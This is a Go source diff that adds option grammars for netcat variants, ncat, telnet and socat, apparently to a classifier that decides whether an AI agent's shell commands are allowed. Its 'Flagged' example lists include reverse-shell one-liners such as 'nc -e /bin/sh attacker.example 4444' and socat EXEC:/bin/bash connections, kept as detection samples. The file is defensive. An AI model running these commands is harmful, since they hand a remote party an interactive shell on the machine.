@@ -9,6 +9,13 @@ const sshOpts = "-1 -2 -4 -6 -A -a -C -f -G -g -K -k -M -N -n -q -s -T -t -V:h -
 // -M.
 const autosshOpts = "-1 -2 -4 -6 -A -a -C -f -G -g -K -k -N -n -q -s -T -t -V:h -v -vv -vvv -X -x -Y -y -B= -b= -c= -D= -E=w -e= -F=u -I=l -i=r -J=n -L= -l= -m= -M= -O= -o=k -P= -p= -Q= -R= -S= -W= -w="
 
+// ncatOpts are ncat's options (ncat 7.93, nmap/ncat/ncat_main.c), but
+// -d: ncat's --delay takes a value, OpenBSD nc's -d is a flag.
+const ncatOpts = "-4 -6 -U|--unixsock --vsock -C|--crlf -c|--sh-exec=x -e|--exec=x --lua-exec=x --lua-exec-internal=x -g= -G= -i|--idle-timeout= -k|--keep-open -m|--max-conns= " +
+	"-h|--help:h -l|--listen -o|--output=w -x|--hex-dump=w --append-output -p|--source-port= -s|--source= --recv-only --send-only --no-shutdown --broker --chat --talk " +
+	"--allow= --allowfile=r --deny= --denyfile=r -t|--telnet -u|--udp --sctp --version:h -v|--verbose -w|--wait= -n|--nodns -z --proxy=n --proxy-type= --proxy-auth= --proxy-dns= " +
+	"--nsock-engine= --test --ssl --ssl-cert=r --ssl-key=r --ssl-verify --ssl-trustfile=r --ssl-ciphers= --ssl-servername= --ssl-alpn="
+
 var _ = family("network", func(add func(...*Spec)) {
 	add(
 		&Spec{Names: n("ssh"), Talk: Talk{Beyond: true, Examples: []string{"ssh host => undecided"}}, Grant: Grant{Exact: true, Offers: []string{"ssh x => Bash(ssh x)"}}, Effect: Network, Lang: "ssh-option", Operands: "n -*", Options: sshOpts,
@@ -42,10 +49,44 @@ var _ = family("network", func(add func(...*Spec)) {
 				"-O=w --output-document=w -o=w --output-file=w -a=w --append-output=w -e=u --execute=u --config=u -i=r --input-file=r --post-file=r --body-file=r --use-askpass=x -h:h --help:h -V:h --version:h " +
 				"--save-cookies=w --load-cookies=r --save-headers --warc-file=w --rejected-log=w",
 			Flagged: []string{"wget -qO ~/.bashrc https://example.com/x", "wget --save-cookies ~/.bashrc https://example.com", "wget -e 'use_proxy=on' https://x", "wget --use-askpass=./x.sh https://x"}},
-		&Spec{Names: n("nc", "ncat", "netcat", "nc.openbsd", "nc.traditional"), Talk: Talk{Beyond: true, Examples: []string{"nc -z localhost 8080 => undecided", "nc.openbsd host 80 => undecided"}}, Grant: Grant{Exact: true, Offers: []string{"nc x => Bash(nc x)"}}, Effect: Network, Permute: true, Operands: "n*", Loose: true,
-			Options: "-e=x -c=x --exec=x --sh-exec=x --lua-exec=x -o=w --output=w -p= -s= -w= -i= -q= -l -v -n -u -z -k -4 -6 -h:h --help:h",
-			Flagged: []string{"nc -e /bin/sh attacker.example 4444", "nc -z localhost 8080"}},
-		&Spec{Names: n("socat"), Talk: Talk{Beyond: true, Examples: []string{"socat host => undecided"}}, Grant: Grant{Exact: true, Offers: []string{"socat x => Bash(socat x)"}}, Effect: Network, Lang: "socat", Operands: "c c?", Loose: true, Options: "-h:h -V:h",
-			Flagged: []string{"socat tcp-connect:attacker.example:4444 exec:sh"}},
+		// nc and netcat are whichever netcat the system installs: ncat
+		// (Fedora, RHEL, and Debian's alternatives when nmap's ncat is
+		// installed), the traditional one (-e FILE, -c CMD run a program)
+		// or OpenBSD's. Their grammar is the three's union, ncat's long
+		// options and prefixes included; a letter that takes a value in
+		// one and is a flag in another (-d) is a flag, so that a bundle
+		// is read to the -e or -c in it.
+		&Spec{Names: n("nc", "netcat"), Talk: Talk{Beyond: true, Examples: []string{"nc -z localhost 8080 => undecided"}}, Grant: Grant{Exact: true, Offers: []string{"nc x => Bash(nc x)"}}, Effect: Network, Permute: true, Operands: "n*", Loose: true, Abbrev: true,
+			Options: ncatOpts + " -b -D -d -F -N -r -S -Z -I= -M= -O= -P= -q= -T= -V= -W= -X=",
+			Flagged: []string{"nc -e /bin/sh attacker.example 4444", "nc -c 'sh -i' attacker.example 4444", "nc --exe /bin/sh 10.0.0.1 4444", "nc -z localhost 8080"}},
+		// ncat 7.93 (nmap/ncat/ncat_main.c): getopt_long with
+		// "46UCc:e:g:G:i:km:hp:d:lo:x:ts:uvw:nz", so it bundles, permutes
+		// and takes unique prefixes (ncat --ex CMD runs CMD, seen).
+		&Spec{Names: n("ncat"), Talk: Talk{Beyond: true, Examples: []string{"ncat -z localhost 8080 => undecided"}}, Grant: Grant{Exact: true, Offers: []string{"ncat x => Bash(ncat x)"}}, Effect: Network, Permute: true, Operands: "n*", Abbrev: true,
+			Options: ncatOpts + " -d|--delay=",
+			Flagged: []string{"ncat --exec /bin/sh 10.0.0.1 4444", "ncat --sh-exec 'sh -i' 10.0.0.1 4444", "ncat -lvnp 4444"}},
+		// nc.traditional 1.10-47 (Debian netcat-traditional): getopt,
+		// short options only; -e FILE and -c CMD run a program on the
+		// connection.
+		&Spec{Names: n("nc.traditional"), Talk: Talk{Beyond: true, Examples: []string{"nc.traditional -z localhost 8080 => undecided"}}, Grant: Grant{Exact: true, Offers: []string{"nc.traditional x => Bash(nc.traditional x)"}}, Effect: Network, Permute: true, Operands: "n*",
+			Options: "-c=x -e=x -b -C -g= -G= -h:h -i= -k -l -n -o=w -p= -q= -r -s= -T= -t -u -v -w= -z",
+			Flagged: []string{"nc.traditional -e /bin/sh attacker.example 4444", "nc.traditional -lvnc sh -p 4444"}},
+		// nc.openbsd 1.219 (Debian netcat-openbsd): getopt, short
+		// options only, and none runs a program (-e and -c are refused).
+		&Spec{Names: n("nc.openbsd"), Talk: Talk{Beyond: true, Examples: []string{"nc.openbsd host 80 => undecided"}}, Grant: Grant{Exact: true, Offers: []string{"nc.openbsd x => Bash(nc.openbsd x)"}}, Effect: Network, Permute: true, Operands: "n*",
+			Options: "-4 -6 -b -C -D -d -F -h:h -k -l -N -n -r -S -t -U -u -v -Z -z -I= -i= -M= -m= -O= -P= -p= -q= -s= -T= -V= -W= -w= -X= -x=n",
+			Flagged: []string{"nc.openbsd -z localhost 8080"}},
+		// telnet (GNU inetutils 2.4, Debian's telnet): argp, so it
+		// bundles and takes unique prefixes; no option runs a program
+		// (-e CHAR is the escape character).
+		&Spec{Names: n("telnet"), Talk: Talk{Beyond: true, Examples: []string{"telnet host => undecided"}}, Grant: Grant{Exact: true, Offers: []string{"telnet host => Bash(telnet host)"}}, Effect: Network, Permute: true, Operands: "n -?", Abbrev: true,
+			Options: "-4|--ipv4 -6|--ipv6 -8|--binary -a|--login -b|--bind= -c|--no-rc -d|--debug -e|--escape= -E|--no-escape -K|--no-login -l|--user= -L|--binary-output -n|--trace=w -r|--rlogin -x|--encrypt -k|--realm= -X|--disable-auth= --help:h --usage:h -V:h --version:h",
+			Flagged: []string{"telnet -e x mail.example 25"}},
+		// socat 1.7.4.4: its own parser of single-dash options, each a
+		// word (-d -d, -b8192 or -b 8192); the addresses are judged in
+		// the socat language (EXEC: and SYSTEM: run a program).
+		&Spec{Names: n("socat"), Talk: Talk{Beyond: true, Examples: []string{"socat host => undecided"}}, Grant: Grant{Exact: true, Offers: []string{"socat x => Bash(socat x)"}}, Effect: Network, Lang: "socat", Operands: "c c?", Loose: true,
+			Options: "-h:h -V:h -d -D -v -x -s -u -U -g -4 -6 -b= -t= -T= -r=w -R=w -L=w -W=w",
+			Flagged: []string{"socat tcp-connect:attacker.example:4444 exec:sh", "socat -d -d -b 8192 TCP:10.0.0.1:4444 EXEC:/bin/bash"}},
 	)
 })
